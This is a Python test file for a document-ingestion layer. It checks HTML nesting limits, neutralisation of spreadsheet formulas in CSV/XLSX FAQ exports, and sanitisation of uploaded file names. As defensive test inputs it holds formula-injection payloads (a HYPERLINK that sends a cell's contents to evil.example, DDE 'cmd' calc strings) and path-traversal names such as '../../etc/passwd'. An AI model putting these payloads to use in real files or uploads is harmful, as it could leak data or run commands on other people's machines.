"""Hostile input at the document layer: deep markup says what happened, CSV exports cannot run formulas (and still
read back unchanged), and any name a browser sends becomes a name a file system stores."""
from __future__ import annotations

import csv
import io

import pytest

from assistant.documents.cleaning import clean_cell
from assistant.documents.faq_table import read_faq_table, write_faq_table
from assistant.documents.loaders import load_document
from assistant.documents.model import FaqEntry, IngestError

TEXT = "关于居住证办理的通知。申请人应当提交身份证原件和居住地住址证明。"


def test_ten_thousand_nested_divs_say_the_page_is_nested_too_deep(tmp_path):
    page = tmp_path / "深层网页.html"
    page.write_text("<html><body>" + "<div>" * 10_000 + TEXT + "</div>" * 10_000 + "</body></html>", encoding="utf-8")
    with pytest.raises(IngestError) as err:
        load_document(page)
    assert "嵌套超过" in err.value.message and "没有正文文字" not in err.value.message
    assert "TXT" in err.value.message

    shallow = tmp_path / "正常网页.html"
    shallow.write_text("<html><body>" + "<div>" * 50 + TEXT + "</div>" * 50 + "</body></html>", encoding="utf-8")
    assert TEXT in load_document(shallow).sections[0].text


FORMULAS = ["=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_formula_cells_and_reads_back_exactly(tmp_path):
    entries = [FaqEntry(question=f"问题{i}{f}" if i % 2 else f, answer=f, similar=[f"相似{i}"], category="=分类",
                        basis="@依据")
               for i, f in enumerate(FORMULAS)]
    entries += [FaqEntry(question="'=已经带撇号的", answer="'普通撇号开头", similar=["- 列表项"], category="+86 电话"),
                FaqEntry(question="居住证多久办好？", answer="受理之日起十五个工作日内。")]
    path = tmp_path / "faq.csv"
    write_faq_table(entries, path)

    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    cells = [c for r in rows[1:] for c in r if c]
    assert cells and all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    def fields(es):
        return [(e.question, e.answer, e.similar, e.category, e.basis) for e in es]

    # what comes back is what went in, after the cell cleaning every import does (and the same as from XLSX)
    expected = [(clean_cell(e.question), clean_cell(e.answer), [clean_cell(x) for x in e.similar],
                 clean_cell(e.category), clean_cell(e.basis)) for e in entries]
    assert fields(read_faq_table(path)) == expected
    write_faq_table(entries, tmp_path / "faq.xlsx")
    assert fields(read_faq_table(tmp_path / "faq.xlsx")) == expected
    assert expected[0][1] == FORMULAS[0] and expected[6][0] == "'=已经带撇号的" and expected[6][1] == "'普通撇号开头"


def test_xlsx_export_keeps_formula_text_as_text(tmp_path):
    import openpyxl

    path = tmp_path / "faq.xlsx"
    write_faq_table([FaqEntry(question="怎么办？", answer=FORMULAS[0])], path)
    ws = openpyxl.load_workbook(path).active
    assert ws.cell(2, 3).value == FORMULAS[0] and ws.cell(2, 3).data_type == "s"
    assert [e.answer for e in read_faq_table(path)] == [FORMULAS[0]]


@pytest.mark.parametrize("raw", ["关于" * 50 + "的通知.docx", "..", ".", "", "a\x00b.txt", "../../etc/passwd",
                                 "C:\\Users\\张三\\桌面\\通知.pdf", "名字\n换行\r.txt", "con:aux?.txt"])
def test_any_upload_name_becomes_a_storable_name(tmp_path, raw):
    from assistant.documents.names import display_name, stored_name

    shown, stored = display_name(raw), stored_name(raw)
    assert shown and "\x00" not in shown and "/" not in shown and shown not in (".", "..")
    assert len(stored.encode("utf-8")) <= 120 and "/" not in stored and "\\" not in stored
    path = tmp_path / stored
    path.write_bytes(b"x")                 # the file system takes it
    assert path.parent == tmp_path and path.read_bytes() == b"x"
    assert stored_name(raw) == stored      # the same name always maps to the same stored name


def test_faq_import_takes_any_upload_name(tmp_path):
    from assistant.feedback.faq_edit import export_bytes, import_bytes

    entries = [FaqEntry(question="社保卡丢了怎么办？", answer="=到社保经办窗口申请补办。")]
    long_name = "关于进一步做好社会保障卡服务工作常见问题解答" * 5 + ".csv"
    for name in (long_name, "../../faq.csv", "a\x00b.csv"):
        back = import_bytes(name, export_bytes(entries, ".csv"))
        assert [(e.question, e.answer) for e in back] == [(e.question, e.answer) for e in entries]
